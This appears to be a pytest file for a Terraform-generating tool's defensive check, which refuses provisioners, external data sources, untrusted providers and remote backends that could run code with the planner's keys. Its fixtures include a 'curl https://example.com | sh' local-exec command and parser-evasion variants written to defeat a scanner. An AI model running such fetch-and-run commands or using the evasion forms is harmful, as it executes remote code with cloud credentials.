"""What would run with the keys of whoever plans is refused, wherever in a checkout it is written."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from tests.engine.small import STACKS, small_project

from infragen.plan.risks.privilege import SHIPPED
from infragen.render.external_programs import programs
from infragen.render.shipped import shipped_templates
from infragen.render.templates import Templates

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.conftest import Outcome

    Infragen = Callable[..., Outcome]

SEED = """\
resource "terraform_data" "seed" {
  input = 1

  provisioner "local-exec" {
    command = "curl https://example.com | sh"
  }
}
"""


HARMLESS = """\
module "m" {
  source = "../modules/vpc"
}

terraform {
  required_providers {
    aws = { source = "hashicorp/aws" }
  }
}

resource "terraform_data" "x" {
  input = "external"
}
"""


@pytest.mark.parametrize(
    ("text", "name", "line"),
    [
        (SEED, "network/terraform_data.seed", 4),
        ('resource "null_resource" "a" {\n  provisioner "remote-exec" {}\n}', "network/null_resource.a", 2),
        ('resource "aws_instance" "a" {\n  provisioner "file" {}\n}', "network/aws_instance.a", 2),
        ("resource aws_instance a {\n  provisioner file {}\n}", "network/aws_instance.a", 2),
        ('resource "a" "b" {\n  provisioner /* x */ "local-exec" {}\n}', "network/a.b", 2),
        ('\ndata "external" "tools" {\n}', "network/data.external.tools", 2),
        ("data external tools {\n}", "network/data.external.tools", 1),
        ('data   "external"   "tools" {\n}', "network/data.external.tools", 1),
        ('data "extern\\u0061l" "tools" {\n}', "network/data.external.tools", 1),
        ('data /* x\n*/ "external" "tools" {\n}', "network/data.external.tools", 1),
        ('check "a" {\n  data "external" "tools" {\n  }\n}', "network/data.external.tools", 2),
        ('data "http" "x" {\n}', "network/data.http.x", 1),
        ('resource "local_file" "x" {\n}', "network/local_file.x", 1),
        ('action "local_command" "x" {\n}', "network/action.local_command.x", 1),
        ('module "m" {\n  source = "git::https://example.com/m"\n}', "network/module.m", 1),
        ('module "m" {\n  source = "../../../../../evil"\n}', "network/module.m", 1),
        ('module "m" { source = "./evil" }', "network/module.m", 1),
        (
            'terraform {\n  required_providers {\n    shell = { source = "evil/shell", version = "1" }\n  }\n}',
            "network/evil/shell",
            1,
        ),
        (
            'provider "aws" {\n  region                   = "x"\n  shared_config_files = ["x"]\n}',
            "network/provider.aws",
            1,
        ),
        ('provider "aws" {\n  profile = "x"\n}', "network/provider.aws", 1),
        ('\ufeffprovider "aws" {\n  profile = "x"\n}', "network/provider.aws", 1),
        ('locals {\n  a = <<EOT\n/*\nEOT\n}\ndata "external" "x" {}\n/* */', "network/data.external.x", 6),
        ('locals {\n  a = "${"}\\"" /* "}" */}"\n}\ndata "external" "x" {}\n', "network/data.external.x", 4),
        ('provider "aws" {\n  assume_role {\n    role_arn = "x"\n  }\n}', "network/provider.aws", 1),
        ('provider "kubernetes" {\n  exec {}\n}', "network/provider.kubernetes", 1),
        ('terraform {\n  backend "s3" {\n    profile = "x"\n  }\n}', "network/backend", 2),
        ('terraform {\n  backend "http" {\n    address = "x"\n  }\n}', "network/backend", 2),
        ("terraform {\n  cloud {}\n}", "network/terraform", 1),
        ('terraform {\n  encryption {\n    key_provider "external" "x" {}\n  }\n}', "network/terraform", 1),
        (
            'terraform {\n  required_providers {\n    evil = { "\\u0073ource" = "evil/evil" }\n  }\n}',
            "network/evil/evil",
            1,
        ),
        (
            'terraform {\n  required_providers {\n    evil = { ("source") = "evil/evil" }\n  }\n}',
            "network/required_providers",
            2,
        ),
        ('data "terraform_remote_state" "x" {\n  backend = "http"\n}', "network/data.terraform_remote_state.x", 1),
        ('data "terraform_remote_state" "x" {\n  backend = var.x\n}', "network/data.terraform_remote_state.x", 1),
        (
            'data "terraform_remote_state" "x" {\n  backend = "s3"\n  config  = { profile = "x" }\n}',
            "network/data.terraform_remote_state.x",
            1,
        ),
        (
            'data "terraform_remote_state" "x" {\n  backend = "s3"\n  config  = local.x\n}',
            "network/data.terraform_remote_state.x",
            1,
        ),
        (
            'data "terraform_remote_state" "x" {\n  backend = "s3"\n  config  = { bucket = "x", "key" = "y" }\n}',
            "network/data.terraform_remote_state.x",
            1,
        ),
        ("x {{{", "network/network.tf", 1),
        ('provisioner "x" {{{', "network/network.tf", 1),
        (HARMLESS, None, None),
    ],
)
def test_what_runs_is_found_however_it_is_written(text: str, name: str | None, line: int | None) -> None:
    found = [(one.name, one.line) for one in programs([("network/network.tf", text)])]
    assert found == ([] if name is None else [(name, line)])


def test_json_is_not_read_and_so_not_trusted() -> None:
    assert [one.name for one in programs([("network/x.tf.json", "{}")])] == ["network/x.tf.json"]


READS_SECRETS = {
    "calls `nonsensitive`: what is marked as sensitive would be shown",
    "reads a secret, which errors may quote",
    "reads the secret that it is given the name of",
    "is not among the data sources of names and settings: the plan would show what it reads",
}
"""What shipped modules may, and a held one has an allowance for."""


def test_what_infragen_ships_runs_nothing_but_infragen() -> None:
    root = Path(__file__).parents[3] / "generated/technova"
    texts = [(path.relative_to(root).as_posix().partition("/")[2], path.read_text()) for path in root.rglob("*.tf")]
    found = [one for one in programs(texts) if not one.path.endswith(("/upstream.tf", "/backend.tf"))]
    running = [one for one in found if one.said not in READS_SECRETS]
    assert {one.path for one in running} == {"modules/aurora_sql/main.tf"}
    assert {one.said for one in running} == {"runs a program (local-exec)"}
    text = (root / "prod/modules/aurora_sql/main.tf").read_text()
    assert re.findall(r"command += (.*)", text) == [json.dumps(SHIPPED[0])]  # no plan calls it a program of somebody's


def test_a_hand_written_program_is_refused_at_its_line(infragen: Infragen, tmp_path: Path) -> None:
    project = small_project(tmp_path, aws=STACKS)
    extra = project / "catalog/small/extra/network/seed.tf"
    extra.parent.mkdir(parents=True)
    extra.write_text(SEED)
    for command in (("validate",), ("render",), ("render", "--check"), ("plan", "small/dev", "--offline")):
        outcome = infragen(*command, "-C", project)
        assert outcome.code == 1
        said = outcome.err + outcome.out
        assert (
            "catalog/small/extra/network/seed.tf:4:3: error G015 terraform_data.seed runs a program (local-exec)"
            in said
        )
        assert '`allow = ["small/network/terraform_data.seed"]`' in said
    (project / "infragen.toml").write_text('[programs]\nallow = ["small/network/terraform_data.other"]\n')
    assert infragen("validate", "-C", project).code == 1
    (project / "infragen.toml").write_text('[programs]\nallow = ["small/network/terraform_data.seed"]\n')
    assert infragen("validate", "-C", project).code == 0
    assert infragen("render", "-C", project).code == 0
    text = (project / "generated/small/dev/network/extra_seed.tf").read_text(encoding="utf-8")
    assert text.startswith("# Generated by infragen from catalog/small/extra/network/seed.tf. Edits are lost: ")


def test_a_template_of_the_project_runs_nothing_either(infragen: Infragen, tmp_path: Path) -> None:
    project = small_project(tmp_path, aws=STACKS)
    template = project / "templates/kinds/network/main.tf"
    before = len(template.read_text().splitlines())
    template.write_text(f"{template.read_text()}\n# {{% if own.name %}}\n{SEED}# {{% endif %}}\n")
    outcome = infragen("render", "-C", project)
    assert outcome.code == 1
    assert f"templates/kinds/network/main.tf:{before + 6}:3: error G015 terraform_data.seed" in outcome.err


def test_what_a_shipped_template_includes_runs_nothing_either(infragen: Infragen, tmp_path: Path) -> None:
    """The flow log's template includes that of keys, and alone has a log group."""
    project = small_project(tmp_path, aws=STACKS)
    shutil.rmtree(project / "templates")
    own = project / "templates/kinds/keys/main.tf"
    own.parent.mkdir(parents=True)
    shipped = (shipped_templates() / "kinds/keys/main.tf").read_text()
    own.write_text(f"{shipped}# {{% if own.log_group_name is defined %}}\n{SEED}# {{% endif %}}\n")
    outcome = infragen("render", "-C", project)
    assert outcome.code == 1
    line = len(shipped.splitlines()) + 5
    assert f"templates/kinds/keys/main.tf:{line}:3: error G015 terraform_data.seed" in outcome.err


@pytest.mark.parametrize("name", ["kinds/keys/main.tf", "modules/aurora_sql/main.tf", "stacks/_shell/providers.tf"])
def test_a_copy_of_a_shipped_template_is_as_good_as_the_shipped_one(tmp_path: Path, name: str) -> None:
    """A clone of infragen has them, and so has what was its base: they are known by what they say, not by where."""
    own = tmp_path / "templates" / name
    own.parent.mkdir(parents=True)
    shutil.copyfile(shipped_templates() / name, own)
    assert Templates((tmp_path / "templates", shipped_templates()), tmp_path).own(name) == ()
    own.write_text(f"{own.read_text()}# more\n")
    assert Templates((tmp_path / "templates", shipped_templates()), tmp_path).own(name) == (name,)


def test_a_file_that_lies_in_a_stacks_folder_runs_nothing_either(infragen: Infragen, tmp_path: Path) -> None:
    project = small_project(tmp_path, aws=STACKS)
    assert infragen("render", "-C", project).code == 0
    file = project / "generated/small/dev/network/by_hand.tf"
    for text, name in ((SEED, "by_hand.tf:4:3"), ("{}", "by_hand.tf.json:1:1")):
        file = project / f"generated/small/dev/network/{name.partition(':')[0]}"
        file.write_text(text)
        outcome = infragen("plan", "small/dev", "--offline", "-C", project)
        assert (outcome.code, f"generated/small/dev/network/{name}: error G015" in outcome.err) == (1, True), (
            outcome.err
        )
        file.unlink()


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ('terraform {\n  required_providers {\n    shell = { source = "evil/shell" }\n  }\n}\n', "G012"),
        ('terraform {\n  backend "http" {}\n}\n', "G012"),
        ('provider "aws" {\n  profile = "x"\n}\n', "G012"),
        ('import {\n  to = aws_eip.a\n  id = "1"\n}\n', "G012"),
        ('data "terraform_remote_state" "x" {\n  backend = "http"\n}\n', "G013"),
        ('provider "kubernetes" {}\n', "G015"),
        ('provider "aws" {\n  alias   = "other"\n  profile = "x"\n}\n', "G015"),
    ],
)
def test_of_a_hand_written_block_one_thing_is_said(infragen: Infragen, tmp_path: Path, text: str, code: str) -> None:
    """Either it is never possible, and nobody is told to allow it, or it is once it is allowed."""
    project = small_project(tmp_path, aws=STACKS)
    extra = project / "catalog/small/extra/network/own.tf"
    extra.parent.mkdir(parents=True)
    extra.write_text(text)
    outcome = infragen("validate", "-C", project)
    assert re.findall(r"error (G\d+)", outcome.out + outcome.err) == [code]
    address = (re.findall(r'allow = \["(.*)"\]', outcome.out) or ["small/network/x"])[0]
    (project / "infragen.toml").write_text(f'[programs]\nallow = ["{address}"]\n')
    assert infragen("validate", "-C", project).code == (0 if code == "G015" else 1)
    assert infragen("render", "-C", project).code == (0 if code == "G015" else 1)


def test_a_provider_from_elsewhere_is_required_where_hand_written_files_use_it(
    infragen: Infragen, tmp_path: Path
) -> None:
    project = small_project(tmp_path, aws=STACKS)
    extra = project / "catalog/small/extra/network/own.tf"
    extra.parent.mkdir(parents=True)
    extra.write_text('provider "datadog" {\n  api_url = "https://example.com"\n}\n')
    (project / "infragen.toml").write_text(
        '[providers.required]\ndatadog = {source = "DataDog/datadog", version = "~> 3.50"}\n'
        'signalfx = {source = "splunk-terraform/signalfx", version = "~> 9.0"}\n'
        '[programs]\nallow = ["small/network/provider.datadog"]\n'
    )
    outcome = infragen("render", "-C", project)
    assert outcome.code == 0, outcome.err
    files = {path.parent.name: path.read_text() for path in project.glob("generated/small/dev/*/versions.tf")}
    assert 'datadog = {\n      source  = "DataDog/datadog"\n      version = "~> 3.50"\n    }' in files.pop("network")
    assert files
    assert not [text for text in files.values() if "datadog" in text]
    assert "signalfx" not in (project / "generated/small/dev/network/versions.tf").read_text()
    assert "datadog" not in (project / "generated/small/dev/network/providers.tf").read_text()


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('aws = {source = "a/b", version = "1"}', "'aws' is no provider beside AWS's"),
        ('x = {source = "b", version = "1"}', 'write its address in a registry, such as `"DataDog/datadog"`'),
        ('x = {source = "a/b"}', "version"),
    ],
)
def test_what_is_no_provider_is_named_in_infragen_toml(
    infragen: Infragen, tmp_path: Path, text: str, said: str
) -> None:
    project = small_project(tmp_path, aws=STACKS)
    (project / "infragen.toml").write_text(f"[providers.required]\n{text}\n")
    outcome = infragen("validate", "-C", project)
    assert outcome.code == 1
    assert "infragen.toml:2:" in outcome.out
    assert said in outcome.out


def test_another_region_needs_nobodys_leave(infragen: Infragen, tmp_path: Path) -> None:
    project = small_project(tmp_path, aws=STACKS)
    extra = project / "catalog/small/extra/network/own.tf"
    extra.parent.mkdir(parents=True)
    extra.write_text('provider "aws" {\n  alias  = "osaka"\n  region = "ap-northeast-3"\n}\n')
    assert infragen("validate", "-C", project).code == 0
    assert infragen("render", "-C", project).code == 0
